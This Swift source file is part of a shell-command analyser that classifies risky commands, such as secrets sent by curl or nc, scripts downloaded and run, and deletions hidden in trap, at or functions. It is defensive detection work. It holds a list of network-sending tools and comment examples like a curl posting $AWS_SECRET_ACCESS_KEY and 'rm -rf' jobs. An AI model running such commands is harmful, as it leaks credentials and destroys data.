/// Dispatch from the program name to its rules.
extension ShellAnalyzer {
    /// Programs that send what their arguments say to another host.
    /// Options whose value is the data a client sends.
    static let dataOptions: Set<String> = ["-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--json", "-F",
                                           "--form", "--form-string", "--post-data", "--body-data", "-Body"]
    static let networkSenders: Set<String> = ["curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet",
                                              "Invoke-WebRequest", "Invoke-RestMethod", "iwr", "irm"]

    /// Options whose value is the server a client talks to.
    static let serverOptions: Set<String> = ["--index-url", "--extra-index-url", "-i", "--registry", "--endpoint-url",
                                             "--repository-url", "--repo-url", "--repo", "--server", "--trusted-host"]

    /// The hosts of `serverOptions` values, of `helm repo add NAME URL`, and of an image's registry (`docker pull
    /// registry.corp.com/team/app:1`, `podman push …`): a first path part with a dot or a port.
    static func serverHosts(_ command: ResolvedCommand) -> [String] {
        let words = command.args.texts
        var hosts: [String] = []
        for (index, word) in words.enumerated() {
            var value: String?
            if let equals = word.firstIndex(of: "="), serverOptions.contains(String(word[..<equals])) {
                value = String(word[word.index(after: equals)...])
            } else if serverOptions.contains(word), index + 1 < words.count, !(word == "-i" && command.program != "pip" && command.program != "pip3") {
                value = words[index + 1]
            }
            if let value, let host = urlHost(value) ?? (word == "--trusted-host" ? value : nil) { hosts.append(host) }
        }
        if command.program == "helm", words.starts(with: ["repo", "add"]), words.count >= 4, let host = urlHost(words[3]) {
            hosts.append(host)
        }
        if ["docker", "podman", "nerdctl", "buildah"].contains(command.program), let verb = words.first,
           ["pull", "push"].contains(verb),
           let image = words.dropFirst().first(where: { !$0.hasPrefix("-") && $0.contains("/") }),
           let registry = image.split(separator: "/").first, registry.contains(".") || registry.contains(":"),
           !registry.contains("$") {
            hosts.append(String(registry.split(separator: ":").first ?? registry))
        }
        return hosts
    }

    mutating func run(_ command: ResolvedCommand, stdin: ResolvedCommand?, upstreamAll: [ResolvedCommand],
                      source: ShellCommand) {
        let p = command.program
        // `pytest --collect-only`, `jest --listTests`, `go test -list .`, `cargo test -- --list`: tests named, none run.
        let savedListing = listsTestsOnly
        listsTestsOnly = command.args.words.contains { ShellAnalyzer.testListingOptions.contains($0.text) }
            // `go test -c`: the test binary compiled, not run.
            || p == "go" && command.args.texts.first == "test" && command.args.texts.contains("-c")
        defer { listsTestsOnly = savedListing }
        // `cat <<'EOF' | apply_patch`, `printf '%s\n' '*** Begin Patch' … | apply_patch`: the patch is what the pipe feeds.
        if p == "apply_patch" || p == "applypatch", command.stdinText == nil, !command.args.texts.contains(where: PatchParser.isPatch),
           let upstream = stdin {
            if let text = ShellAnalyzer.pipedText(upstream), PatchParser.isPatch(text) {
                var fed = command
                fed.stdinText = text
                run(fed, stdin: nil, upstreamAll: upstreamAll, source: source)
            } else {
                family("apply_patch", nil)
                add(.obfuscated, "applies a patch the line does not show (piped from \(upstream.program))")
            }
            return
        }
        // A secret variable in the data a network client sends (`curl -d "k=$AWS_SECRET_ACCESS_KEY" https://x`, `nc host 80`
        // with it): read, and sent away. (In a header or a user option it authenticates: `-H "Authorization: Bearer $T"`.)
        if ShellAnalyzer.networkSenders.contains(p) {
            let words = command.args.words
            for (index, word) in words.enumerated() where word.hasExpansion {
                let option = index > 0 ? words[index - 1].text : ""
                let sent = ["nc", "ncat", "netcat", "socat", "telnet"].contains(p)
                    || ShellAnalyzer.dataOptions.contains(option)
                    || ShellAnalyzer.dataOptions.contains { word.text.hasPrefix($0 + "=") }
                guard sent else { continue }
                for name in ShellAnalyzer.variableNames(in: word.text) where ShellAnalyzer.looksSecret(name) {
                    add(.sensitiveRead, "sends the secret variable $\(name) over the network (\(p) \(option))")
                }
            }
        }
        // The server a package manager, a cloud client or a chart tool is pointed at (`pip install --index-url
        // https://pypi.corp.com/simple`, `npm install --registry …`, `aws s3 ls --endpoint-url …`, `helm repo add acme
        // https://charts.corp.com`, `docker pull registry.corp.com/team/app`): a host it reaches.
        for host in ShellAnalyzer.serverHosts(command) { result.target(ActionTarget(.host, host)) }
        for (name, value) in command.assignments where name == "KUBECONFIG" || name == "AWS_PROFILE" {
            variables[name] = value
        }
        // A script run by its path (`./i.sh`) that the line downloaded: download-and-run.
        if command.written.contains("/"), runsFetchedScript(path(command.written), as: command.written) {
            result.target(ActionTarget(.path, path(command.written), operation: "exec"))
        }
        // A script the session wrote, run by its path (`./deploy.sh`): its commands ran.
        if command.written.contains("/") { runWrittenScript(path(command.written), as: command.written) }
        if let body = functions[p], !functionsRunning.contains(p) {
            // A function the line defined: its body runs, with the call's arguments.
            let saved = positional
            positional = command.args.words
            functionsRunning.insert(p)
            nested(body, origin: "function \(p)")
            functionsRunning.remove(p)
            positional = saved
            return
        }
        // `set -- rm -rf /srv`: the line's own arguments, which `"$@"` then runs.
        if p == "set", let dashes = command.args.words.firstIndex(where: { $0.text == "--" }) {
            positional = Array(command.args.words[(dashes + 1)...])
            return
        }
        if p == "shift", positional != nil {
            let count = command.args.words.first.flatMap { Int($0.text) } ?? 1
            positional = Array(positional!.dropFirst(max(0, count)))
            return
        }
        if let unknown = unknownGlobalOptions(command) {
            // `kubectl $FLAGS delete ns prod`, `git $OPTS push --force`: a value the line does not know, before the
            // subcommand, is taken for options, so the subcommand after it is still seen.
            var words = command.args.words
            for index in unknown.positions.reversed() { words.remove(at: index) }
            let shown = unknown.positions.map { command.args.words[$0].text }.joined(separator: " ")
            result.note("\(shown) before \(p)'s subcommand is taken to hold options")
            var stripped = command
            stripped.args = CommandArguments(words)
            if !unknown.subcommandFollows {
                add(.obfuscated, "\(p)'s subcommand may be computed at run time (\(shown))")
            }
            run(stripped, stdin: stdin, upstreamAll: upstreamAll, source: source)
            return
        }
        if ShellAnalyzer.shells.contains(p) {
            shell(command, stdin: stdin, upstreamAll: upstreamAll)
            return
        }
        if p == "trap" {
            // `trap 'rm -rf /srv/data' EXIT`: the command runs when the shell gets the signal or exits.
            if let action = command.args.words.first?.text, !action.isEmpty, action != "-", !action.hasPrefix("-") {
                nested(action, origin: "trap")
            }
            result.family("trap")
            return
        }
        if p == "at" {
            // `echo 'rm -rf /srv' | at now`: the job is what the pipe writes.
            if let stdin, stdin.program == "echo" || stdin.program == "printf" {
                nested(stdin.args.texts.filter { !$0.hasPrefix("-") }.joined(separator: " "), origin: "\(stdin.program) | at")
            }
            result.family("at")
            return
        }
        if interpreter(command, stdin: stdin, upstreamAll: upstreamAll) { return }
        if fileCommand(command, stdin: stdin, upstreamAll: upstreamAll) { return }
        if network(command) { return }
        if vcs(command) { return }
        // `cat <<EOF | kubectl apply -f -`: the manifest the pipe feeds, as a here-document would.
        if command.stdinText == nil, let upstream = stdin, ["kubectl", "oc", "kubecolor"].contains(p),
           let text = ShellAnalyzer.pipedText(upstream) {
            var fed = command
            fed.stdinText = text
            if kubernetes(fed) { return }
        }
        if kubernetes(command) { return }
        if containers(command) { return }
        if cloud(command) { return }
        if secrets(command) { return }
        if data(command, stdin: stdin) { return }
        if build(command) { return }
        if system(command) { return }
        if PowerShellAnalyzer.isCmdlet(p) {
            let words = [command.written] + command.args.texts
            merge(PowerShellAnalyzer.classify(words: words, context: context))
            return
        }
        result.family(p)
    }

    /// Programs whose first positional argument is a subcommand, with their options before it that take a value as
    /// the next word (the analysers' own sets where they have one).
    static let subcommandPrograms: [String: Set<String>] = [
        "kubectl": kubectlValued, "oc": kubectlValued, "helm": helmValued, "git": gitGlobalValued, "aws": awsValued,
        "docker": ["-H", "--host", "-c", "--context", "--config", "-l", "--log-level", "--tlscacert", "--tlscert", "--tlskey"],
        "podman": ["--connection", "-c", "--url", "--root", "--runroot", "--identity", "--log-level"],
        "terraform": [], "tofu": [], "pulumi": ["-C", "--cwd", "-s", "--stack"],
        "gh": ["-R", "--repo"], "glab": ["-R", "--repo"],
        "gcloud": ["--project", "--account", "--configuration", "--impersonate-service-account", "--verbosity", "--format"],
        "az": ["--subscription", "--output", "-o", "--query"],
        "flyctl": ["-a", "--app", "-c", "--config"], "fly": ["-a", "--app", "-c", "--config"],
        "vercel": ["--scope", "--token", "-t", "--cwd", "-A", "--local-config"],
        "npm": ["--prefix", "-w", "--workspace"], "pnpm": ["-C", "--dir", "--filter", "-F"], "yarn": ["--cwd"],
        "cargo": ["-C", "--manifest-path", "--config", "-Z"], "go": ["-C"],
        "argocd": ["--server", "--auth-token", "--config", "--grpc-web-root-path"], "vault": ["-address", "-namespace"],
        "doctl": ["-t", "--access-token", "--context", "-c", "--config"], "eksctl": ["--profile", "--region"],
        "heroku": ["-a", "--app", "-r", "--remote"],
    ]

    /// The places, among `command`'s arguments before its subcommand, of words the line cannot know
    /// (`$FLAGS`, `"${OPTS}"`, `$(flags)`), for a program with subcommands; nil when there are none. The
    /// subcommand is the first argument that is no option, no value of an option before it, and no such word;
    /// `subcommandFollows` is false when there is none (`git $CMD`: the subcommand may be the unknown word).
    func unknownGlobalOptions(_ command: ResolvedCommand) -> (positions: [Int], subcommandFollows: Bool)? {
        guard let valued = ShellAnalyzer.subcommandPrograms[command.program] else { return nil }
        var unknown: [Int] = []
        var index = 0
        let words = command.args.words
        while index < words.count {
            let word = words[index]
            if word.text == "--" { break }
            if word.text.hasPrefix("-") {
                if valued.contains(word.text) { index += 1 }
            } else if (word.hasExpansion || word.hasCommandSubstitution) && !word.text.hasPrefix("~")
                        && (word.text.hasPrefix("$") || word.text.hasPrefix("`")) {
                unknown.append(index)
            } else {
                return unknown.isEmpty ? nil : (unknown, true)
            }
            index += 1
        }
        return unknown.isEmpty ? nil : (unknown, false)
    }

    /// Adds another classification's findings to this one.
    mutating func merge(_ other: Classification) {
        for reason in other.reasons {
            if let cls = ActionClasses.named(reason.className) { result.add(cls, reason.text) }
        }
        for target in other.targets { result.target(target) }
        for family in other.commandFamilies { result.family(family) }
        for note in other.notes { result.note(note) }
        for evidence in other.production { result.productionEvidence(evidence) }
        for change in other.scriptChanges {
            result.scriptChanges.append(change)
            ScriptFiles.apply([change], to: &context.scripts)
        }
        context.adoptBranch(of: other)
        if let selected = other.selectedTerraformWorkspace {
            context.terraformWorkspace = selected
            result.selectedTerraformWorkspace = selected
        }
    }

    /// `program subcommand` for drift.
    mutating func family(_ program: String, _ subcommand: String?) {
        if let subcommand, !subcommand.isEmpty, !subcommand.hasPrefix("-") {
            result.family("\(program) \(subcommand)")
        } else {
            result.family(program)
        }
    }
    /// The text a command writes to a pipe when the line states it: `cat`'s here-document, `echo`'s or `printf`'s
    /// arguments (`printf '%s\n' a b` writes a line each).
    static func pipedText(_ command: ResolvedCommand) -> String? {
        let texts = command.args.texts
        switch command.program {
        case "cat" where texts.filter({ $0 != "-" }).isEmpty:
            return command.stdinText
        case "echo":
            return texts.drop(while: { $0.hasPrefix("-") && $0.count <= 3 }).joined(separator: " ")
        case "printf":
            guard let format = texts.first else { return nil }
            return texts.count > 1 && format.contains("%s") ? texts.dropFirst().joined(separator: "\n") : format
        default:
            return nil
        }
    }
}
